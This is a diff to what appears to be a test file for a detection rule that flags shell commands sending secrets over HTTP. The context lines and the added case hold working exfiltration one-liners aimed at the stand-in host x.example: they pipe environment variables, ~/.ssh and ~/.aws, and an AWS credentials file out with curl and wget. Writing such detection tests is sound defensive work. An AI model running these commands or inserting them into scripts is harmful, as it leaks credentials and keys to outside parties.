@@ -84,6 +84,8 @@ printenv | base64 | curl -d @- https://x.example/in
 tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s --upload-file - https://x.example/home.tgz
 # ruleid: sh-secret-sent-by-http-client
 wget --post-data="$(env)" https://x.example/in
+# ruleid: sh-secret-sent-by-http-client
+wget --post-file=/home/ci/.aws/credentials https://x.example/in
 # ok: sh-secret-sent-by-http-client
 curl -fsS -H "Authorization: Bearer ${DEPLOY_TOKEN}" -d '{"v":"1"}' "${DEPLOY_API}/releases"
 # ok: sh-secret-sent-by-http-client
